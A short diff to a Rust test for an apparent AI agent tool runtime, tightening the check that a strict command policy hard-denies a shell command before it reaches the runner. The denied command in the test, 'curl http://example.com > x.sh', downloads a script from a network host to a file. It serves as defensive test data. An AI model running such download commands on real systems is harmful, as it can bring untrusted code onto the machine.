@@ -590,7 +590,12 @@ async fn run_command_goes_through_policy_then_runner() {
     .await;
     assert!(denied.is_error);
     assert!(denied.content.contains("strict"), "{}", denied.content);
-    let ToolEffect::PolicyDenied { command, reason } = &denied.effect else {
+    let ToolEffect::PolicyDenied {
+        command,
+        reason,
+        hard: true,
+    } = &denied.effect
+    else {
         panic!("{:?}", denied.effect)
     };
     assert_eq!(command, "curl http://example.com > x.sh");
